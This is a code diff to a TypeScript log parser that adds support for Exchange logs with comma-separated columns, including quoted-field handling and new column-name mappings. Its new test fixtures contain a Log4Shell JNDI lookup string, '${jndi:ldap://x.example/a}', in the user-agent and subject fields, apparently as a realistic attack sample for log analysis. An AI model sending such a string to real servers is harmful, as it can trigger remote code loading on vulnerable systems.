@@ -15,7 +15,7 @@ const iisDefault = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-
  */
 export const w3cExtended: LogFormat = {
   id: 'w3c-extended',
-  summary: 'logs with a `#Fields:` directive, wherever in them it stands: IIS, proxies, the Windows firewall',
+  summary: 'logs with a `#Fields:` directive, wherever in them it stands: IIS, Exchange, proxies, the Windows firewall',
   definedBy: 'https://www.w3.org/TR/WD-logfile.html',
   witnesses: [' TCP ', ' UDP ', ' tcp ', ' http ', ' https ', ' ssl ', '\t'],
   examples: {
@@ -55,14 +55,34 @@ export const w3cExtended: LogFormat = {
         from: '10.0.0.7',
         saw: { is: 'connection', to: '203.0.113.9', name: null, port: 1389, by: '10.0.0.7', protocol: 'tcp' },
       },
+      {
+        // Exchange, whose columns have commas between them.
+        columns: '#Fields: DateTime,RequestId,UrlHost,UrlStem,ClientIpAddress,UserAgent,Method',
+        record:
+          '2021-12-12T04:25:41.123Z,a1,mail.example,/owa/,203.0.113.9,"Mozilla/5.0 (a, ""b"") ${jndi:ldap://x.example/a}",GET',
+        when: '2021-12-12T04:25:41.123Z',
+        from: '203.0.113.9',
+        request: 'GET /owa/',
+        userAgent: 'Mozilla/5.0 (a, "b") ${jndi:ldap://x.example/a}',
+      },
+      {
+        columns: '#Fields: date-time,client-ip,server-ip,event-id,message-subject',
+        record: '2021-12-12T04:25:41.123Z,203.0.113.9,10.0.0.4,RECEIVE,${jndi:ldap://x.example/a}',
+        when: '2021-12-12T04:25:41.123Z',
+        from: '203.0.113.9',
+      },
     ],
     refuses: [iisFields, '2021-12-12 04:25:41 INFO main GET nothing', '2021-12-12 04:25:41 10.0.0.4 GET'],
   },
   read({ text }, { columns, around }) {
     if (text.startsWith('#')) return null
-    const named = columnsOf(columns, '#Fields:', /\t/.test(columns ?? '') ? '\t' : ' ')
+    const separator = separatorOf(columns ?? '')
+    const named = columnsOf(columns, '#Fields:', separator)
     if (named?.includes('x-edge-location') === true) return null
-    const rows = named === null ? withoutDirective(text) : splits(text).filter(({ length }) => length === named.length)
+    const rows =
+      named === null
+        ? withoutDirective(text)
+        : (separator === ',' ? [commaSeparated(text)] : splits(text)).filter(({ length }) => length === named.length)
     for (const values of rows) {
       const read = ofRow(named ?? iisDefault, values, (time) => readTime(time, around))
       if (read !== null) return read
@@ -79,18 +99,21 @@ function ofRow(
   const row = new Row(names, values)
   const [date, time] = [row.value('date', 'x-date'), row.value('time')]
   const when =
-    date === null || time === null ? timeOf(row.value('x-timestamp', 'timestamp') ?? '') : timeOf(`${date} ${time}`)
+    date === null || time === null
+      ? timeOf(row.value('x-timestamp', 'timestamp', 'DateTime', 'date-time', 'TimeStamp') ?? '')
+      : timeOf(`${date} ${time}`)
+  if (row.has('DateTime', 'date-time', 'TimeStamp') && when === null) return null
   if (row.has('date') && (when === null || !/^\d{4}[-/]\d\d[-/]\d\d$/.test(date ?? ''))) return null
-  const from = addressOf(row.value('c-ip', 'src-ip', 'c-dns'))
-  const method = row.value('cs-method')
-  const stem = row.value('cs-uri-stem', 'cs-uri-path', 'cs-uri', 'c-uri')
-  const query = row.value('cs-uri-query')
+  const from = addressOf(row.value('c-ip', 'src-ip', 'c-dns', 'ClientIpAddress', 'client-ip', 'original-client-ip'))
+  const method = row.value('cs-method', 'Method', 'HttpMethod')
+  const stem = row.value('cs-uri-stem', 'cs-uri-path', 'cs-uri', 'c-uri', 'UrlStem')
+  const query = row.value('cs-uri-query', 'UrlQuery')
   const path = stem === null ? null : query === null ? stem : `${stem}${query.startsWith('?') ? '' : '?'}${query}`
   return {
     when,
     from,
     request: path === null ? null : method === null ? path : `${method} ${path}`,
-    userAgent: row.value('cs(User-Agent)', 'c-agent', 'cs(user-agent)')?.replaceAll('+', ' ') ?? null,
+    userAgent: row.value('cs(User-Agent)', 'c-agent', 'cs(user-agent)')?.replaceAll('+', ' ') ?? row.value('UserAgent'),
     ...sawOf(row, from),
     fields: values.map((value, index) => ({ name: names[index] ?? null, value })),
   }
@@ -114,6 +137,32 @@ function withoutDirective(text: string): readonly (readonly string[])[] {
   )
     ? [text.split(' ')]
     : []
+}
+
+/** Tabs, the commas of Exchange, or blanks. */
+function separatorOf(columns: string): string {
+  if (columns.includes('\t')) return '\t'
+  return /^#Fields: ?[^\s,]{1,100},[^\s,]/.test(columns) ? ',' : ' '
+}
+
+/** Values with commas in them stand in quotes, and quotes in those are doubled. */
+function commaSeparated(text: string): readonly string[] {
+  const values: string[] = []
+  for (let at = 0; at <= text.length; ) {
+    const isQuoted = text[at] === '"'
+    const end = isQuoted ? endOfQuoted(text, at + 1) : text.length
+    const comma = text.indexOf(',', isQuoted ? end : at)
+    const stop = comma < 0 ? text.length : comma
+    values.push(isQuoted ? text.slice(at + 1, end).replaceAll('""', '"') : text.slice(at, stop))
+    at = stop + 1
+  }
+  return values
+}
+
+function endOfQuoted(text: string, from: number): number {
+  let at = text.indexOf('"', from)
+  while (at >= 0 && text[at + 1] === '"') at = text.indexOf('"', at + 2)
+  return at < 0 ? text.length : at
 }
 
 /** By tabs, or by blanks, with quotes and without: a client may write a quote of its own. */
